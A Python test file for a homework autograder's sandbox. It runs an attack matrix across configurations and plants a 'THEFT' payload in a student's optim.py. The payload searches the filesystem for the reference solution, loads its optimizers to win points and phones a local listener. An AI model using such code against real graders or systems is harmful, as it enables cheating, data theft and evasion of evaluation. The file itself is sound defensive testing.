"""The walls where bubblewrap cannot run: Landlock and the socket ban, proven attack by attack.

``walls.py`` grades one attacking submission in each sandbox configuration
(bubblewrap and direct, walls on and off, each wall alone, Landlock capped
at older ABIs) and reports what each attack achieved; it runs here as root
and, through ``container.py``, as an unprivileged uid. ``expected`` is the
model of what each wall stops; every cell of the run must match it, so each
attack is proven both ways, per backend, per user and per ABI.

Then ``nndl-hw4 grade`` itself in a Docker-like container where bubblewrap
cannot create namespaces, as root and as non-root: a stub-plus-theft
submission gets the stubs' score and no connection gets out; with the walls
switched off, the same theft earns the optimizers' 25 points (the attack is
real). Where Landlock is missing too, ``auto`` refuses and ``direct`` says
what it does not protect.

Time: about 35 s here (two walls.py runs of 9 children, six CLI runs).
"""

import csv
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import uuid
from pathlib import Path

import pytest

from nndl_hw4 import mutants
from nndl_hw4.child import landlock
from nndl_hw4.rubric import default_rubric_path

from .helpers import is_root

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[1]
STUBS = REPO / "assignment" / "nndl"
NNDL_HW4 = Path(sys.executable).parent / "nndl-hw4"
UID = 61_234                       # an unprivileged uid with no account and no processes here
SECRET = f"fake-secret-{uuid.uuid4().hex}"
NATIVE = landlock.abi()
ATTACKS = ("read the reference", "read the grader", "read another submission", "list /", "read /proc/1/cmdline",
           "read /proc/1/environ", "read the grader's environment", "write into another submission",
           "write in /var/tmp", "TCP connect to the host", "TCP listen", "UDP to the host",
           "abstract unix socket of the host", "signal the grader")
SUCCESS = {"read", "listed", "written", "connected", "listening", "sent", "signalled"}


@pytest.fixture(scope="module", autouse=True)
def landlock_here():
    if not sys.platform.startswith("linux"):
        pytest.skip("Landlock exists only on Linux")
    if NATIVE < 1:
        pytest.fail("these tests need Landlock (Linux >= 5.13 with Landlock enabled at boot; "
                    f"this kernel reports ABI {NATIVE})")
    if not is_root():
        pytest.fail("these tests start as root: they switch to an unprivileged uid for the non-root case")


def expected(backend, sockets, abi, user):
    """({attack: outcome}, {what the host saw}) for `backend` with the socket ban on or off and
    Landlock ABI `abi` (0: off), graded as `user` (root or not)."""
    bwrap, root = backend == "bubblewrap", user == "root"

    def read(otherwise):
        return "ENOENT" if bwrap else "EACCES" if abi else otherwise

    out = {
        "read the reference": read("read"),
        "read the grader": read("read"),
        "read another submission": read("read"),
        "list /": "EACCES" if abi else "listed",
        "read /proc/1/cmdline": "EACCES" if abi else "read",                  # bubblewrap: its own init
        # root: the child's throw-away uid may not read another uid's environ;
        # non-root bubblewrap: pid 1 is its own init, whose environment is empty.
        "read /proc/1/environ": "EACCES" if abi or root or not bwrap else "read",
        "read the grader's environment": ("EACCES" if abi or root else
                                          "read, no secret" if bwrap else "read"),
        "write into another submission": "ENOENT" if bwrap else "EACCES" if abi or root else "written",
        "write in /var/tmp": "ENOENT" if bwrap else "EACCES" if abi else "written",
        "TCP connect to the host": ("EPERM" if sockets else "EACCES" if abi >= 4 else
                                    "ECONNREFUSED" if bwrap else "connected"),
        "TCP listen": "EPERM" if sockets else "EACCES" if abi >= 4 else "listening",
        "UDP to the host": "EPERM" if sockets else "sent",                     # Landlock has no UDP rules
        "abstract unix socket of the host": ("EPERM" if sockets or abi >= 6 else
                                             "ECONNREFUSED" if bwrap else "connected"),
        "signal the grader": "EPERM" if abi >= 6 or root else "signalled",     # root: another uid
    }
    host = {"tcp": int(out["TCP connect to the host"] == "connected"),
            "udp": int(out["UDP to the host"] == "sent" and not bwrap),       # bubblewrap: its own loopback
            "unix": int(out["abstract unix socket of the host"] == "connected"),
            # as root, what the throw-away uid wrote in /var/tmp is swept after the child
            "files left": 0 if root else [out["write into another submission"],
                                          out["write in /var/tmp"]].count("written")}
    return out, host


def configs():
    below = [a for a in (3, 5) if a < NATIVE]   # what an older kernel leaves open, shown on this one
    return (["bubblewrap", "bubblewrap, walls off", "direct", "direct, walls off", "direct, Landlock only",
             "direct, socket ban only"] + [f"direct, ABI {a}" for a in below]
            + [f"direct, Landlock ABI {a} only" for a in below])


def in_container(argv, user, *options, env=None, **kwargs):
    """Run argv through container.py (as `user`: root or the unprivileged UID)."""
    launcher = [sys.executable, str(HERE / "container.py"), *options]
    if user != "root":
        launcher += ["--uid", str(UID)]
    return subprocess.run([*launcher, "--", *map(str, argv)], capture_output=True, text=True, timeout=300,
                          env=dict(os.environ, **(env or {})), **kwargs)


@pytest.mark.parametrize("user", ["root", "non-root"])
def test_each_wall_stops_what_it_should(user):
    proc = in_container([sys.executable, HERE / "walls.py", "--configs", ";".join(configs())], user,
                        env={"NNDL_HW4_FAKE_SECRET": SECRET})
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    results = json.loads(proc.stdout)
    wrong = {}
    for config, got in results.items():
        assert got["uid"] == (0 if user == "root" else UID)
        want, host = expected(got["backend"], got["deny_sockets"], got["landlock"], user)
        cells = {a: (got["child"][a], want[a]) for a in ATTACKS if got["child"][a] != want[a]}
        cells.update({f"host: {k}": (got["host"][k], v) for k, v in host.items() if got["host"][k] != v})
        if cells:
            wrong[config] = cells
    assert not wrong, "(got, expected) per configuration: " + json.dumps(wrong, indent=1)
    # The model, read both ways for the attacks of issue 11: each succeeds without the walls...
    off = {a for a, v in results["direct, walls off"]["child"].items() if v in SUCCESS}
    must = {"read the reference", "read the grader", "read another submission", "read /proc/1/cmdline",
            "write in /var/tmp", "TCP connect to the host", "UDP to the host"}
    if user != "root":
        must |= {"read the grader's environment", "write into another submission", "signal the grader"}
    assert must <= off, must - off
    # ...and none succeeds with them, in either backend.
    for config in ("direct", "bubblewrap"):
        assert {a for a, v in results[config]["child"].items() if v in SUCCESS} == set(), config
    assert results["direct"]["landlock"] == results["bubblewrap"]["landlock"] == NATIVE


# ---------------------------------------------------------------------------
# nndl-hw4 grade in a container without namespaces


THEFT = """

# --- appended by the attacker: find the installed reference, re-export its optimizers ---
import importlib.util as _util
import os as _os
import socket as _socket
import sys as _sys


def _candidates():
    here = [_os.path.realpath(m.__file__) for m in list(_sys.modules.values()) if getattr(m, "__file__", None)]
    for path in here:   # the harness and numpy give away where the grader is installed
        parts = path.split(_os.sep)
        for i in range(len(parts), 1, -1):
            base = _os.sep.join(parts[:i])
            yield _os.path.join(base, "nndl_hw4", "reference", "nndl", "optim.py")
            yield _os.path.join(base, "reference", "nndl", "optim.py")
            yield _os.path.join(base, "solutions", "nndl", "optim.py")
    for top, dirs, files in _os.walk("/"):
        if top.startswith(("/proc", "/sys", "/dev")):
            dirs[:] = []
        elif "optim.py" in files and top.endswith(("nndl_hw4/reference/nndl", "solutions/nndl")):
            yield _os.path.join(top, "optim.py")


def _steal():
    for path in _candidates():
        try:
            spec = _util.spec_from_file_location("_stolen", path)
            stolen = _util.module_from_spec(spec)
            spec.loader.exec_module(stolen)
            return stolen
        except Exception:
            continue


_stolen = _steal()
if _stolen is not None:
    sgd_momentum, sgd_nesterov_momentum = _stolen.sgd_momentum, _stolen.sgd_nesterov_momentum
    rmsprop, adam = _stolen.rmsprop, _stolen.adam
try:   # ...and tell the world
    _s = _socket.create_connection(("127.0.0.1", %(port)d), timeout=2)
    _s.sendall(b"stolen" if _stolen is not None else b"nothing")
    _s.close()
except OSError:
    pass
"""
OPTIMIZERS = ("sgd_momentum", "sgd_nesterov_momentum", "rmsprop", "adam")


class _Listener:
    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.1)
        self.port = self.server.getsockname()[1]
        self.accepted, self.stop = 0, threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                self.server.accept()[0].close()
                self.accepted += 1
            except OSError:
                pass

    def close(self):
        self.stop.set()
        self.thread.join()
        self.server.close()


@pytest.fixture
def listener():
    server = _Listener()
    yield server
    server.close()


@pytest.fixture
def shared(tmp_path):
    """A folder the unprivileged uid can use (pytest's own are root-only): submissions, rubric, reports."""
    folder = Path(tempfile.mkdtemp(prefix="nndl-hw4-container-"))
    folder.chmod(0o755)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def _class(folder, port, user):
    """stubs/ (the release as handed out), theft/ (the stubs plus THEFT) and reference/ (the walls
    must not cost correct code anything), a rubric without the final part."""
    for name in ("stubs", "theft"):
        shutil.copytree(STUBS, folder / "class" / name / "nndl")
    mutants.write_package(folder / "class" / "reference", mutants.reference_sources())
    optim = folder / "class" / "theft" / "nndl" / "optim.py"
    optim.write_text(optim.read_text() + THEFT % {"port": port})
    blocks = default_rubric_path().read_text().split("[[question]]")
    rubric = folder / "rubric.toml"
    rubric.write_text("[[question]]".join(b for b in blocks if 'kind = "accuracy"' not in b))
    (folder / "home").mkdir()
    if user != "root":
        for path in [folder, *folder.rglob("*")]:
            os.chown(path, UID, UID)
    return rubric


def _failed(out, name):
    """{check id: message} of the checks a graded submission failed (for assertion messages)."""
    record = json.loads((out / name / "grading.json").read_text())
    return {c["id"]: (c["message"], c["note"]) for q in record["questions"] for c in q["checks"] if not c["passed"]}


def _grades(out):
    with open(out / "grades.csv") as f:
        return {row["name"]: row for row in csv.DictReader(f)}


@pytest.mark.parametrize("user", ["root", "non-root"])
@pytest.mark.parametrize("sandbox", ["auto", "direct"])
def test_grade_without_namespaces_gives_theft_the_stubs_score(shared, listener, user, sandbox):
    rubric = _class(shared, listener.port, user)
    out = shared / "out"
    proc = in_container([NNDL_HW4, "grade", shared / "class", "--out", out, "--rubric", rubric, "--jobs", 1,
                         "--sandbox", sandbox], user, "--no-namespaces",
                        env={"HOME": str(shared / "home"), "TMPDIR": str(shared)}, cwd=shared)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    header = proc.stdout.splitlines()[0]
    assert header.startswith(f"Sandbox: direct: Landlock ABI {NATIVE} (files, "), header
    assert "seccomp (no sockets, " in header
    if sandbox == "auto":
        assert "bubblewrap is unavailable" in proc.stdout and "walled by Landlock" in proc.stdout
    grades = _grades(out)
    assert grades["reference"]["total"] == grades["reference"]["max"], (grades["reference"], _failed(out, "reference"))
    assert grades["theft"]["total"] == grades["stubs"]["total"], grades
    assert all(float(grades["theft"][q]) == 0 for q in OPTIMIZERS), grades["theft"]
    assert listener.accepted == 0


UNPROTECTED = """
import sys
from pathlib import Path
from nndl_hw4.grading.batch import grade_batch, make_setup
from nndl_hw4.grading.submission import discover
from nndl_hw4.rubric import load_rubric
from nndl_hw4.sandbox.backends import DirectBackend

folder = Path(sys.argv[1])
setup = make_setup(load_rubric(folder / "rubric.toml"), DirectBackend(landlock=False, deny_sockets=False),
                   folder / "out", force=True)
grade_batch(discover([folder / "class"], exclude=[folder / "out"]), setup, jobs=1)
"""


@pytest.mark.parametrize("user", ["root", "non-root"])
def test_the_theft_is_real_without_the_walls(shared, listener, user):
    """The same class through the same pipeline, Landlock and the socket ban switched off."""
    _class(shared, listener.port, user)
    proc = in_container([sys.executable, "-c", UNPROTECTED, shared], user, "--no-namespaces",
                        env={"HOME": str(shared / "home"), "TMPDIR": str(shared)}, cwd=shared)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    grades = _grades(shared / "out")
    assert sum(float(grades["theft"][q]) for q in OPTIMIZERS) == 25, grades["theft"]
    assert float(grades["stubs"]["total"]) + 25 == float(grades["theft"]["total"])
    assert listener.accepted >= 1


def test_auto_refuses_without_bubblewrap_and_landlock(shared, listener):
    rubric = _class(shared, listener.port, "root")
    args = [NNDL_HW4, "grade", shared / "class" / "stubs", "--out", shared / "out", "--rubric", rubric]
    refused = in_container([*args, "--sandbox", "auto"], "root", "--no-namespaces", "--no-landlock", cwd=shared)
    assert refused.returncode == 2
    text = re.sub(r"\s+", " ", refused.stdout + refused.stderr)
    assert "ERROR: no sandbox for student code here: bubblewrap cannot be used" in text
    assert "TIP: install bubblewrap" in text and "--sandbox direct" in text
    assert not (shared / "out").exists()
    accepted = in_container([*args, "--sandbox", "direct"], "root", "--no-namespaces", "--no-landlock", cwd=shared)
    assert accepted.returncode == 0, accepted.stdout[-3000:] + accepted.stderr[-3000:]
    text = re.sub(r"\s+", " ", accepted.stdout)
    assert text.startswith("Sandbox: direct: no Landlock, seccomp (no sockets, ")
    assert "WARNING: Landlock is not available here" in text and "trusted code" in text
